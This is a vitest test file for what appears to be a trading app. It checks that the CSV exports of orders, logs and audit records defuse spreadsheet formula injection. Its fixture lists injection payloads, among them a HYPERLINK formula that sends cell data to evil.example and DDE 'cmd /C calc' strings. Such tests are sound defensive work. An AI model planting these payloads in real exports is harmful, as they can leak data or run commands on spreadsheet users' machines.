// CSV formula injection: text from outside (an exchange's order id or error, a symbol, a log
// message) must reach a spreadsheet as text, never as a formula; numbers must stay numbers.
import { PassThrough } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ExportRequest } from '../../../../shared/domain/export.js';
import type { OrderView } from '../../../../shared/domain/orders.js';
import { formatCandleCsv } from '../../../engine/market/csv.js';
import { parseCsv, parseCsvObjects } from '../../testing/parse-csv.js';
import { createTempCore, type TempCore } from '../../testing/temp-core.js';
import { ordersCsv } from '../orders/orders-csv.js';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** What a spreadsheet would treat as a formula: the cell as read back starts with one of these. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(cell);

let t: TempCore;
beforeEach(async () => {
  t = await createTempCore();
});
afterEach(() => t.cleanup());

async function exportText(request: ExportRequest): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await t.core.services.exporter.stream(request, out);
  out.end();
  return Buffer.concat(chunks).toString('utf8');
}

function order(overrides: Partial<OrderView>): OrderView {
  return {
    clientOrderId: 'c-1',
    exchangeOrderId: null,
    parentClientOrderId: null,
    symbol: 'BTC/USD',
    side: 'buy',
    type: 'limit',
    quantity: '0.5',
    price: '-1.5',
    stopPrice: null,
    trailPercent: null,
    timeInForce: 'GTC',
    expiresAt: null,
    status: 'REJECTED',
    filled: '0',
    remaining: '0.5',
    averageFillPrice: null,
    fees: [],
    createdAt: 1_700_000_000_000,
    updatedAt: 1_700_000_000_000,
    submittedAt: null,
    reason: null,
    lastError: null,
    flags: { adopted: false, needsAttention: false },
    timeline: [],
    ...overrides,
  };
}

describe('CSV exports neutralise formulas', () => {
  it('orders: an exchange order id, symbol or error that looks like a formula is written as text', () => {
    const rows = FORMULAS.map((f, i) => ({
      venue: 'kraken',
      view: order({ clientOrderId: `c-${i}`, exchangeOrderId: f, symbol: f, lastError: f, reason: f }),
    }));
    const records = parseCsvObjects(ordersCsv(rows));
    expect(records).toHaveLength(FORMULAS.length);
    records.forEach((r, i) => {
      for (const column of ['exchange_order_id', 'symbol', 'last_error', 'reason']) {
        expect(isFormula(r[column] ?? ''), `${column}: ${r[column]}`).toBe(false);
        expect(r[column]).toBe(`'${FORMULAS[i]}`);
      }
      // Numbers stay numbers, the negative one too.
      expect(r.price).toBe('-1.5');
      expect(r.quantity).toBe('0.5');
    });
  });

  it('logs: a message or symbol that looks like a formula is written as text', async () => {
    for (const f of FORMULAS) t.core.logger.warn('exchange', f, { symbol: f });
    const records = parseCsvObjects(await exportText({ kind: 'logs', format: 'csv', filter: {} }));
    const cells = records.flatMap((r) => Object.values(r));
    expect(cells.filter(isFormula)).toEqual([]);
    for (const f of FORMULAS) expect(cells).toContain(`'${f}`);
  });

  it('audit trail: a summary that looks like a formula is written as text, numbers stay numbers', async () => {
    for (const f of FORMULAS) t.core.services.audit.record('ai.generation', 'user', f, { pnl: -1.5 });
    const text = await exportText({ kind: 'audit', format: 'csv', filter: {} });
    const cells = parseCsv(text).flat();
    expect(cells.filter(isFormula)).toEqual([]);
    for (const f of FORMULAS) expect(cells).toContain(`'${f}`);
    expect(text).toContain('-1.5');
  });

  it('candles: every cell is a number or a time, negative numbers included', () => {
    const text = formatCandleCsv([{ time: 0, open: 1, high: 2, low: 0.5, close: -1.5, volume: 1e-8 }]);
    expect(parseCsv(text.replaceAll('\n', '\r\n'))).toEqual([
      ['time', 'open', 'high', 'low', 'close', 'volume'],
      ['1970-01-01T00:00:00.000Z', '1', '2', '0.5', '-1.5', '1e-8'],
    ]);
  });
});
